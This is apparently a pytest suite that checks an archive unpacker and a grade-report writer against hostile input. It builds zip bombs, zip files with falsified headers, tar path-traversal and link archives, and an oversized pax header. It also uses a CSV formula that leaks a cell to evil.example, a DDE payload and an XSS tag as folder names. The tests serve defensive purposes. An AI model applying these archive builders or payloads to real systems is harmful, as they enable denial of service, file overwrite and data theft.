"""What ``bras-kit grade`` writes for other programs, and the archives it takes in.

Archives: a zip bomb (sizes told and sizes hidden), a zip of more entries than allowed and one
whose end record lies about them, tar archives with ``..`` names, absolute names, symbolic and
hard links, devices, too many members and an extended header of hundreds of megabytes: each
refused with a clear reason, bounded in memory (a kernel limit, RLIMIT_AS, around the unpacking)
and nothing written outside the target. Oracles: the files under the test's folder before and
after, the same archives through Python's plain ``tarfile``, which needs more memory than that
limit (it would bite: measured with tracemalloc in a fresh interpreter), and the format's own
documents (APPNOTE.TXT for zip, POSIX pax for tar).

Outputs: a learner folder named like a spreadsheet formula is a text cell in grades.csv
(OWASP's CSV-injection advice: a leading single quote), and a learner named like an HTML tag is
text in the HTML pages (oracle: Python's html.parser, which sees no such tag)."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from paths import TESTS

from bras_kit.grade.submissions import MAX_ARCHIVE_BYTES, MAX_ARCHIVE_FILES, SubmissionError, unpack
from bras_kit.trust.sandbox import run_limited

TUTORIAL = TESTS / "data" / "tutorial_package"
UNPACK_MEMORY = 160 << 20  # what unpacking may take on top of this process: a kernel limit in a child


def snapshot(root: Path) -> dict[str, str]:
    out = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = os.path.join(folder, name)
            out[path] = "link" if os.path.islink(path) else "dir" if os.path.isdir(path) else \
                hashlib.sha256(Path(path).read_bytes()).hexdigest()
    return out


# ------------------------------------------------------------------ the archives, made here


def zip_bomb(path: Path, megabytes: int = 200) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bundle:
        with bundle.open("bras_description/zeros.bin", "w", force_zip64=True) as member:
            block = bytes(1 << 20)
            for _ in range(megabytes):
                member.write(block)
    return path


def zip_bomb_hiding_its_size(path: Path) -> Path:
    """The bomb above with the uncompressed size, in the local header (APPNOTE 4.3.7, offset 22)
    and the central directory (4.3.12, offset 24), rewritten to 1,000 bytes."""
    data = bytearray(zip_bomb(path, 100).read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as bundle:
        (info,) = bundle.infolist()
    assert info.file_size == 100 << 20
    data = bytearray(zip_bomb(path, 100).read_bytes())  # written without zip64 when it fits
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        data[at + offset:at + offset + 4] = (1000).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    return path


def zip_of_entries(path: Path, count: int, end_says: int | None = None) -> Path:
    with zipfile.ZipFile(path, "w") as bundle:
        for k in range(count):
            bundle.writestr(f"f{k}", b"")
    if end_says is not None:  # the end record's two entry counts (APPNOTE 4.3.16, offsets 8 and 10)
        data = bytearray(path.read_bytes())
        at = data.rfind(b"PK\x05\x06")
        data[at + 8:at + 12] = end_says.to_bytes(2, "little") * 2
        path.write_bytes(bytes(data))
    return path


def zip_with(path: Path, name: str, *, link: bool = False) -> Path:
    with zipfile.ZipFile(path, "w") as bundle:
        info = zipfile.ZipInfo(name)
        if link:
            info.external_attr = (0o120777 << 16)
        bundle.writestr(info, "/etc/passwd" if link else "pwned\n")
    return path


def tar_with(path: Path, *members: tarfile.TarInfo) -> Path:
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as bundle:
        for member in members:
            data = b"pwned\n" if member.isfile() else None
            if data is not None:
                member.size = len(data)
            bundle.addfile(member, io.BytesIO(data) if data is not None else None)
    return path


def member(name: str, kind: bytes = tarfile.REGTYPE, target: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


def tar_of_members(path: Path, count: int) -> Path:
    return tar_with(path, *(member(f"f{k}") for k in range(count)))


def tar_with_a_huge_extended_header(path: Path, megabytes: int = 200) -> Path:
    """A pax extended header (POSIX pax, typeflag 'x') claiming ``megabytes``, that many zero
    bytes after it: tarfile reads an extended header whole before it parses a record."""
    header = tarfile.TarInfo("././@PaxHeader")
    header.type, header.size = tarfile.XHDTYPE, megabytes << 20
    with gzip.open(path, "wb", compresslevel=1) as stream:
        stream.write(header.tobuf(format=tarfile.USTAR_FORMAT))
        block = bytes(1 << 20)
        for _ in range(megabytes):
            stream.write(block)
        stream.write(bytes(1024))
    return path


def refused(archive: Path, target: Path) -> str:
    """Why ``unpack`` refused ``archive``, run in a child limited to :data:`UNPACK_MEMORY`."""
    with pytest.raises(SubmissionError) as caught:
        run_limited(unpack, str(archive), str(target), memory_bytes=UNPACK_MEMORY, wall_seconds=60)
    return str(caught.value)


# ------------------------------------------------------------------ zip


def test_a_zip_bomb_that_tells_its_size_is_refused_before_a_byte_is_written(tmp_path):
    target = tmp_path / "out"
    target.mkdir()
    assert "unpacks to more than 64 MB" in refused(zip_bomb(tmp_path / "bomb.zip"), target)
    assert os.listdir(target) == []


def test_a_zip_bomb_hiding_its_size_writes_no_more_than_it_declared(tmp_path):
    target = tmp_path / "out"
    target.mkdir()
    reason = refused(zip_bomb_hiding_its_size(tmp_path / "hidden.zip"), target)
    assert "cannot be read" in reason and "CRC" in reason  # zipfile stops at the declared size
    written = sum(f.stat().st_size for f in target.rglob("*") if f.is_file())
    assert written <= 1000


def test_a_zip_of_more_entries_than_allowed_is_refused_from_its_end_record(tmp_path):
    target = tmp_path / "out"
    target.mkdir()
    reason = refused(zip_of_entries(tmp_path / "many.zip", MAX_ARCHIVE_FILES + 1), target)
    assert f"more than {MAX_ARCHIVE_FILES} files" in reason and os.listdir(target) == []


def test_a_zip_whose_end_record_hides_its_entries_is_refused_by_the_size_of_its_directory(tmp_path):
    target = tmp_path / "out"
    target.mkdir()
    archive = zip_of_entries(tmp_path / "lying.zip", 40_000, end_says=3)
    with zipfile.ZipFile(archive) as bundle:  # the oracle: zipfile reads every entry all the same
        assert len(bundle.infolist()) == 40_000
    assert f"more than {MAX_ARCHIVE_FILES} files" in refused(archive, target)
    assert os.listdir(target) == []


@pytest.mark.parametrize(("name", "link", "said"), [
    ("../evil.txt", False, "a path outside its folder"),
    ("bras_description/../../evil.txt", False, "a path outside its folder"),
    ("/tmp/bk-walls-evil.txt", False, "a path outside its folder"),
    ("C:/evil.txt", False, "a path outside its folder"),
    ("link", True, "a link"),
])
def test_a_zip_reaching_outside_is_refused_and_writes_nothing(tmp_path, name, link, said):
    target = tmp_path / "class" / "out"
    target.mkdir(parents=True)
    archive = zip_with(tmp_path / "evil.zip", name, link=link)
    before = snapshot(tmp_path)
    assert said in refused(archive, target)
    assert snapshot(tmp_path) == before and not Path("/tmp/bk-walls-evil.txt").exists()


# ------------------------------------------------------------------ tar


@pytest.mark.parametrize(("members", "said"), [
    ((member("../evil.txt"),), "a path outside its folder"),
    ((member("/tmp/bk-walls-evil.txt"),), "a path outside its folder"),
    ((member("link", tarfile.SYMTYPE, "/etc"), member("link/passwd")), "not a plain file"),
    ((member("hard", tarfile.LNKTYPE, "/etc/passwd"),), "not a plain file"),
    ((member("hard", tarfile.LNKTYPE, "../../evil.txt"),), "not a plain file"),
    ((member("tty", tarfile.CHRTYPE),), "not a plain file"),
    ((member("fifo", tarfile.FIFOTYPE),), "not a plain file"),
])
def test_a_tar_reaching_outside_is_refused_and_writes_nothing(tmp_path, members, said):
    target = tmp_path / "class" / "out"
    target.mkdir(parents=True)
    archive = tar_with(tmp_path / "evil.tar.gz", *members)
    before = snapshot(tmp_path)
    assert said in refused(archive, target)
    assert snapshot(tmp_path) == before and not Path("/tmp/bk-walls-evil.txt").exists()


def test_a_tar_of_more_members_than_allowed_is_refused(tmp_path):
    target = tmp_path / "out"
    target.mkdir()
    reason = refused(tar_of_members(tmp_path / "many.tar.gz", MAX_ARCHIVE_FILES + 500), target)
    assert f"more than {MAX_ARCHIVE_FILES} files" in reason and os.listdir(target) == []


def test_a_tar_with_a_huge_extended_header_is_refused_in_bounded_memory(tmp_path):
    target = tmp_path / "out"
    target.mkdir()
    archive = tar_with_a_huge_extended_header(tmp_path / "pax.tar.gz")
    assert archive.stat().st_size < 1 << 20  # a few hundred kilobytes handed in
    assert "a header larger than 8 MB" in refused(archive, target)
    assert os.listdir(target) == []


PEAK = """import sys, tracemalloc
{setup}
tracemalloc.start()
try:
    {call}
except Exception as exc:
    print(type(exc).__name__, file=sys.stderr)
print(tracemalloc.get_traced_memory()[1])
"""


def _peak_bytes(setup: str, call: str, *args: str) -> int:
    """The most Python memory ``call`` held, after ``setup``, in a fresh interpreter (tracemalloc): the
    figure does not depend on what the test process happens to hold, as a kernel limit set above it would."""
    done = subprocess.run([sys.executable, "-c", PEAK.format(setup=setup, call=call), *args], capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    return int(done.stdout.split()[-1])


def test_the_same_extended_header_through_plain_tarfile_needs_more_than_that_limit(tmp_path):
    """The limit does bite: plain tarfile reads the whole extended header before it parses a record,
    where bras-kit's unpack refuses the same archive holding a few megabytes."""
    archive = tar_with_a_huge_extended_header(tmp_path / "pax.tar.gz")
    target = tmp_path / "out"
    target.mkdir()
    plain = _peak_bytes("import tarfile", "tarfile.open(sys.argv[1]).getmembers()", str(archive))
    ours = _peak_bytes("from bras_kit.grade.submissions import unpack", "unpack(sys.argv[1], sys.argv[2])",
                       str(archive), str(target))
    assert plain > UNPACK_MEMORY > 10 * ours, (plain, ours)
    assert os.listdir(target) == []


def test_a_tar_declaring_more_bytes_than_allowed_is_refused(tmp_path):
    big = member("bras_description/big.bin")
    archive = tmp_path / "big.tar.gz"
    with tarfile.open(archive, "w:gz") as bundle:
        big.size = MAX_ARCHIVE_BYTES + 1
        bundle.addfile(big, io.BytesIO(bytes(big.size)))
    target = tmp_path / "out"
    target.mkdir()
    assert "unpacks to more than 64 MB" in refused(archive, target)
    assert os.listdir(target) == []


# ------------------------------------------------------------------ through bras-kit grade


FORMULA = '=HYPERLINK("evil.example?leak="&A1,"notes")'  # a folder name: no slash
DDE = "+cmd|' -C calc'!A0"
TAG = "<img src=x onerror=alert(1)>"


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.slow
def test_grade_keeps_learner_text_inert_and_refuses_hostile_archives(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    shutil.copytree(TUTORIAL, folder / FORMULA)
    shutil.copytree(TUTORIAL, folder / TAG)
    shutil.copytree(TUTORIAL, folder / DDE)
    shutil.copytree(TUTORIAL, folder / "@SUM(1+1)")
    zip_bomb(folder / "bomb.zip", 100)
    tar_with(folder / "slip.tar.gz", member("../evil.txt"))
    tar_with(folder / "hardlink.tar.gz", member("hard", tarfile.LNKTYPE, "/etc/passwd"))
    tar_with_a_huge_extended_header(folder / "pax.tar.gz", 100)
    before = snapshot(tmp_path)
    out = tmp_path / "report"
    done = subprocess.run([sys.executable, "-m", "bras_kit", "grade", str(folder), "-o", str(out), "--no-pictures",
                           "--jobs", "1"], capture_output=True, text=True, timeout=600,
                          env={**os.environ, "LANGUAGE": "en", "LANG": "C.UTF-8"})
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    after = {path: digest for path, digest in snapshot(tmp_path).items() if not path.startswith(str(out))}
    assert after == before  # nothing written beside the class or in it
    rows = {row["identifier"]: row for row in csv.DictReader(io.StringIO((out / "grades.csv").read_text()))}
    # a quote before each part a spreadsheet could split off and read as a formula (after '|' and
    # ' ' in the DDE call too; the quote already there gets one more: tests/trust/test_gate_csv.py)
    assert {"'" + FORMULA, "'+cmd|'' '-C calc'!A0", "'@SUM(1+1)", TAG} <= set(rows), sorted(rows)
    assert not any(name.startswith(("=", "+", "-", "@")) for name in rows)
    learners = {r["learner"]: r for r in json.loads((out / "results.json").read_text())["learners"]}
    assert "unpacks to more than 64 MB" in learners["bomb"]["first_error"]
    assert "outside its folder" in learners["slip"]["first_error"]
    assert "not a plain file" in learners["hardlink"]["first_error"]
    assert "a header larger than 8 MB" in learners["pax"]["first_error"]
    for page in [out / "index.html", *(out / "learners").glob("*.html")]:
        parser = _Tags()
        parser.feed(page.read_text())
        assert not any(tag == "img" and "onerror" in attrs for tag, attrs in parser.tags), page
